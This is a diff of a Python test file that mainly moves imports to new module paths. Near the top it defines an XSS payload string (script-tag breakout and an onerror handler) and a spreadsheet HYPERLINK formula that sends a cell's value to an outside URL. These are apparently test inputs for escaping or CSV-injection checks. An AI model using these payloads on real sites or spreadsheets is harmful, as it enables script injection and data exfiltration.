@@ -22,15 +22,15 @@ from tiny_run import tiny_run
 from testbed.core.cells import guarded, unguarded
 from testbed.core.errors import InputError
 from testbed.cost.model import ALWAYS, LISTS, PREFIX
-from testbed.experiments.compare.cost_terms import terms
-from testbed.experiments.compare.finished_run import read_run
+from testbed.experiments.look.compare.cost_terms import terms
+from testbed.experiments.look.compare.finished_run import read_run
 from testbed.experiments.runs.choice_names import CONF
 from testbed.experiments.runs.csv_tables import csv_text, read_csv_table
 from testbed.experiments.runs.folder_contents import record_contents
 from testbed.experiments.runs.run_folder import read_config
 from testbed.experiments.runs.whole_files import write_cells
-from testbed.identity import id_of
-from testbed.trusted import class_names, is_own_part
+from testbed.run.identity import id_of
+from testbed.run.trusted import class_names, is_own_part
 
 SCRIPT = "</script><script>window.harmed = 1</script><img src=x onerror='window.harmed = 1'>\""
 FORMULA = '=HYPERLINK("http://example.org/?"&A1;"more")'
@@ -144,7 +144,7 @@ def measured_on_a_gpu(finished, folder):
     [
         "testbed.experiments.runs.run_folder.os.mkdir",  # an import of one of our modules
         "testbed.core.errors.InputError",  # ours, but no part of a run
-        "testbed.trusted.import_module",
+        "testbed.run.trusted.import_module",
         "testbed.memory.nothing.Policy",
         "posix.mkdir",
         "builtins.eval",
